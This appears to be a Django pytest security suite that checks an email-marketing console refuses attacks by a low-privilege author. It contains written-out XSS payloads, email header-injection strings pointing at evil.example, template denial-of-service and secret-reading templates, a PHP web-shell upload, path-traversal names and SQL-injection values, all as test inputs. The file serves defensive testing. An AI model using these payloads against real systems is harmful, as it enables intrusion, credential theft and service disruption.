"""A malicious Author (a teammate who may write but not send): attacks, and their results."""

import re
from time import perf_counter

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from audiences.models import Customer, Workspace
from delivery.channels import Rejected
from delivery.channels.base import Envelope
from delivery.channels.email import mail_of
from messaging import authoring, content
from messaging.models import Message, Sender, State
from outbound import roles
from outbound.roles import Role
from tests.factories import CustomAttributeFactory, CustomerFactory, MessageFactory, SenderFactory
from tests.outbound.composer.test_composer import ADD, ticket, typed

pytestmark = pytest.mark.django_db


@pytest.fixture
def mallory(db) -> Client:
    """An Author, logged in to the console."""
    user = User.objects.create_user("mallory", "mallory@acme.example", "pass", is_staff=True)
    roles.give_role(user, Role.AUTHOR)
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def writes(mallory: Client, **typed_in: object):
    return mallory.post(ADD, typed(SenderFactory(), ticket=ticket(mallory), **typed_in))


# Attacks: running script for customers or colleagues

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='{{ name }}:alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=password></form>",
    "<object data='evil.swf'></object>",
    "<embed src='evil.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<p x-data x-init='alert(1)' @click='alert(1)'>x</p>",
    "<p hx-get='/admin/' hx-trigger='load'>x</p>",
    "<template x-if='alert(1)'>x</template>",
    "<b onmouseover=alert(1)>x</b>",
    "<!--><script>alert(1)</script>-->",
    "{{ '<script>alert(1)</script>' }}",
    "{% assign x = '<img src=x onerror=alert(1)>' %}{{ x }}",
    '<a href="{{ \'\\" onmouseover=alert(1) x=\\"\' }}">x</a>',
    "<{{ 'script' }}>alert(1)</{{ 'script' }}>",
    "<p {{ 'onclick=alert(1)' }}>x</p>",
]
RUNS = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|base|meta|link|form|input|template|style)\b"
    r"|\son\w+\s*=|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|data|vbscript)|x-data|x-init|hx-get|position:\s*fixed|url\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize("script", SCRIPTS)
def test_author_content_never_runs_as_script(mallory, script):
    answer = writes(mallory, body=f"<p>Hi</p>{script}")

    bodies = list(Message.objects.values_list("version__body", flat=True))
    assert len(bodies) == (answer.status_code == 302), "neither saved nor refused"
    for body in bodies:
        for target in content.RenderTarget:
            compiled = content.compile_version("", body, target=target, tracked=target == content.RenderTarget.EMAIL)
            values = {"name": "javascript", content.TRACKING_CLICK: "/c/", content.TRACKING_OPEN: "/o"}
            written = compiled.render(values).html
            inside = written.partition("<body")[2] or written
            tags = "".join(re.findall(r"<[^>]*>", inside))
            assert not RUNS.search(tags), tags


def test_running_script_would_be_detected():
    plain = [script for script in SCRIPTS if "{{" not in script and "&" not in script and "\t" not in script]

    assert [script for script in plain if not RUNS.search(script)] == []


@pytest.mark.parametrize("field", ["title", "subject"])
def test_name_is_escaped(mallory, field):
    writes(mallory, **{field: "<img src=x onerror=alert(1)>"})

    page = mallory.get(reverse("admin:messaging_message_changelist")).content.decode()

    assert Message.objects.count() == 1
    assert "<img src=x" not in page


# To break out of a header


@pytest.mark.parametrize("ends", ["\n", "\r", "\r\n", "\u2028", "\x0b", "\x85", "\x00"])
def test_subject_is_one_line(mallory, ends):
    answer = writes(mallory, subject=f"Hello{ends}Bcc: everyone@evil.example")

    subjects = list(Message.objects.values_list("version__subject", flat=True))
    assert len(subjects) == (answer.status_code == 302), "neither saved nor refused"
    for subject in subjects:
        rendered = content.compile_version(subject, "<p>x</p>", target=content.RenderTarget.EMAIL).render({}).subject
        assert not re.search(r"[\r\n\u2028\x0b\x85\x00]", rendered)


def envelope(**changes: object) -> Envelope:
    said = {
        "to": ("ann@x.example",), "subject": "Hi", "html": "<p>Hi</p>", "text": "Hi",
        "sender": "Ada <ada@acme.example>", "reply_to": "ada@acme.example",
        "message_id": "<1.x@acme.example>", "headers": {},
    }  # fmt: skip
    return Envelope(**{**said, **changes})


@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r", "\u2028", "\x0c", "\x85", "\x00"])
@pytest.mark.parametrize(
    "where",
    [
        lambda bad: {"subject": bad},
        lambda bad: {"to": (f"ann@x.example{bad}",)},
        lambda bad: {"sender": f"{bad} <ada@acme.example>"},
        lambda bad: {"sender": f"Ada <ada@acme.example{bad}>"},
        lambda bad: {"reply_to": f"ada@acme.example{bad}"},
        lambda bad: {"message_id": f"<1@acme.example>{bad}"},
        lambda bad: {"headers": {"List-Unsubscribe": bad}},
        lambda bad: {"headers": {f"X{bad}": "1"}},
    ],
)
def test_header_with_a_line_break_is_refused(where, ends):
    with pytest.raises(Rejected):
        mail_of(envelope(**where(f"x{ends}Bcc: everyone@evil.example")))


def test_same_email_without_the_line_break_is_built():
    assert b"Bcc" not in mail_of(envelope()).content


# To keep the worker that renders it busy

BURN = [
    "{% for a in (1..1000) %}{% for b in (1..1000) %}{% for c in (1..1000) %}x{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in (1..999999999) %}x{% endfor %}",
    "{{ (1..999999999) | join: ',' }}",
    "{% assign x = 'aaaaaaaaaa' %}" + "{% assign x = x | append: x %}" * 40 + "{{ x }}",
    "{% for i in (1..900) %}{% capture x %}{{ x }}{{ x }}{{ x }}a{% endcapture %}{% endfor %}{{ x }}",
    "{% assign x = 'a' %}{% for i in (1..500) %}{% assign x = x | replace: 'a', 'aaaa' %}{% endfor %}",
    "{% assign n = 10 %}{% for i in (1..900) %}{% assign n = n | times: n %}{% endfor %}{{ n }}",
    "{% if a %}" * 900,
    "{{ name" + "[name" * 100 + "]" * 100 + " }}",
]
REACHES = [
    "{% include 'secret' %}",
    "{% render '/etc/passwd' %}",
    "{% layout 'x' %}",
    "{% extends 'x' %}",
    "{% increment x %}{% tablerow i in (1..3) %}{% endtablerow %}",
    "{{ settings.SECRET_KEY }}",
    "{{ name.__class__.__mro__ }}",
    "{{ workspace.identity_secret }}",
    "{{ custom_attributes.secret }}",
    "{{ 'now' | date: '%s' }}",
    "{% raw %}{{ name }}",
]


def assert_saved_but_never_rendered(mallory: Client, text: str) -> None:
    """Save a draft with an invalid template. Its page, its preview and a launch show the reason."""
    answer = writes(mallory, body=f"<p>{text}</p>")
    draft = Message.objects.get()
    assert mallory.get(answer.url).context["problems"]["body"]
    form = typed(draft.sender, body=f"<p>{text}</p>")
    preview = mallory.post(reverse("admin:message_preview"), form).context["preview"]
    assert (bool(preview.wrong), preview.page.count(text)) == (True, 0)
    assert authoring.launch_problems_by_field(draft, at=timezone.now())["body"]


@pytest.mark.parametrize("burns", BURN, ids=lambda text: text[:40])
def test_expensive_template_is_never_rendered(mallory, burns):
    began = perf_counter()
    assert_saved_but_never_rendered(mallory, burns)

    assert perf_counter() - began < 5


@pytest.mark.parametrize("reaches", REACHES)
def test_template_reaches_only_the_variables_of_a_message(mallory, reaches):
    assert_saved_but_never_rendered(mallory, reaches)


def test_expensive_rendering_fails_for_one_customer_within_seconds():
    long = "x" * 19_000
    version = content.compile_version(
        "", "{% for i in (1..900) %}{{ custom_attributes.a }}{% endfor %}", target=content.RenderTarget.TEXT
    )

    began = perf_counter()
    with pytest.raises(content.ContentError):
        version.render({"custom_attributes.a": long})
    assert perf_counter() - began < 5


# Attacks: actions beyond an Author's permissions


def boss() -> User:
    return User.objects.create_superuser("boss", "boss@acme.example", "pass")


def to_admin(name: str, *args: object) -> str:
    return reverse(f"admin:{name}", args=args)


ABOVE_THEM = [
    lambda m, c: (to_admin("message_act", m.pk, "live"), {}),
    lambda m, c: (to_admin("message_act", m.pk, "pause"), {}),
    lambda m, c: (to_admin("customer_send_message", c.pk), {"body": "<p>x</p>", "channel": "email"}),
    lambda m, c: (to_admin("customer_archive", c.pk), {}),
    lambda m, c: (to_admin("customer_clear", c.pk, "has_hard_bounced"), {}),
    lambda m, c: (to_admin("customer_import_file"), {}),
    lambda m, c: (to_admin("auth_user_add"), {"email": "evil@x.example", "role": "admin"}),
    lambda m, c: (
        to_admin("auth_user_change", User.objects.get(username="mallory").pk),
        {"is_superuser": "on", "role": "admin"},
    ),
    lambda m, c: (to_admin("auth_user_change", boss().pk), {"is_active": ""}),
    lambda m, c: (to_admin("messaging_sender_add"), {"name": "CEO", "email": "ceo@acme.example"}),
    lambda m, c: (to_admin("audiences_workspace_change", Workspace.current().pk), {"name": "Mine"}),
    lambda m, c: (to_admin("django_celery_beat_periodictask_add"), {"name": "x", "task": "os.system"}),
    lambda m, c: (to_admin("audiences_integration_changelist"), {}),
]


@pytest.mark.parametrize("attempt", ABOVE_THEM)
def test_actions_beyond_an_author_are_refused(mallory, attempt):
    address, posted = attempt(MessageFactory(live=True), CustomerFactory(email="ann@x.example", has_hard_bounced=True))
    before = Sender.objects.count(), Message.objects.count(), User.objects.count()

    answer = mallory.post(address, posted)

    assert answer.status_code == 403
    assert (Sender.objects.count(), Message.objects.count(), User.objects.count()) == before
    assert roles.role_of(User.objects.get(username="mallory")) is Role.AUTHOR


def test_author_cannot_set_a_message_live(mallory):
    CustomerFactory(email="ann@x.example")

    answer = writes(mallory, act="live", send_type="one_off", title="Weeks of work")

    assert answer.status_code == 403
    assert not Message.objects.exists()
    # A role that changes while its teammate writes: the page says why, and offers the other button.
    assert "nothing was saved or sent" in answer.content.decode()
    assert answer.context["form"]["title"].value() == "Weeks of work"
    assert 'value="live"' not in answer.content.decode()
    mallory.post(ADD, typed(SenderFactory(), ticket=answer.context["ticket"], title="Weeks of work"))
    assert Message.objects.get().state == State.DRAFT


@pytest.mark.parametrize("act", ["live", "sample", "schedule"])
def test_refused_action_saves_nothing_of_the_draft(mallory, act):
    draft = MessageFactory(title="As it was", one_off=True)

    answer = mallory.post(to_admin("messaging_message_change", draft.pk), typed(draft.sender, act=act, sample="2"))

    assert answer.status_code == 403
    assert Message.objects.get().title == "As it was"


def test_author_cannot_write_as_a_colleague(mallory):
    ceo = SenderFactory(name="CEO", teammate=boss())

    answer = mallory.post(ADD, typed(ceo, ticket=ticket(mallory)))

    assert "sender" in answer.context["form"].errors
    assert not Message.objects.exists()


@pytest.mark.parametrize(
    "page",
    ["audiences/customer/?name", "audiences/tag/?name", "messaging/message/?title", "delivery/deliveryrecord/?status"],
)
@pytest.mark.parametrize("said", ["%00", "x%00y"])
def test_list_filter_with_invalid_text_causes_no_server_error(admin_client, page, said):
    admin_client.raise_request_exception = False

    assert admin_client.get(f"/admin/{page}={said}").status_code in (302, 400)


# To store files on our server

FILES = [
    ("evil.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
    ("evil.png", b"<script>alert(1)</script>", "image/png"),
    ("evil.html", b"<!doctype html><script>alert(1)</script>", "image/png"),
    ("evil.php", b"<?php system($_GET['x']); ?>", "image/gif"),
    ("evil.exe", b"MZ\x90\x00", "image/jpeg"),
    ("empty.png", b"", "image/png"),
    ("huge.png", b"\x89PNG\r\n\x1a\n" + b"\0" * (5 * 1024 * 1024 + 1), "image/png"),
]


@pytest.mark.parametrize(("name", "taken", "kind"), FILES, ids=[name for name, *_ in FILES])
def test_only_an_image_is_stored_as_an_image(mallory, settings, tmp_path, name, taken, kind):
    settings.MEDIA_ROOT = str(tmp_path)

    answer = mallory.post(to_admin("message_upload_image"), {"file": SimpleUploadedFile(name, taken, kind)})

    assert answer.status_code == 400
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_image_that_contains_html_is_served_as_an_image(mallory, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    both = SimpleUploadedFile("../../evil.html", b"GIF89a/*<script>alert(1)</script>*/", "text/html")

    kept = mallory.post(to_admin("message_upload_image"), {"file": both}).json()
    answer = Client().get(next(value for value in kept.values() if str(value).startswith("/pictures/")))

    assert answer["Content-Type"] == "image/gif"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert [path.parent.name for path in tmp_path.rglob("*") if path.is_file()] == ["pictures"]


@pytest.mark.parametrize(
    "name", ["../settings.py", "..%2fsettings.py", "%2e%2e/secret_key", "a.png", "x" * 22 + ".svg"]
)
def test_image_name_cannot_leave_the_folder(name):
    assert Client().get(f"/pictures/{name}").status_code == 404


def test_invalid_rule_does_not_read_customer_secrets(mallory):
    CustomAttributeFactory(name="plan")
    CustomerFactory(attributes={"plan": "pro"})

    for attribute in (
        "custom_attributes.plan') --",
        "password",
        "memberships__company__name",
    ):
        answer = writes(mallory, rules=[{"attribute": attribute, "operator": "is", "value": "x' OR '1'='1"}])
        assert answer.context["form"].errors["rules"], attribute
    assert Customer.objects.count() == 1
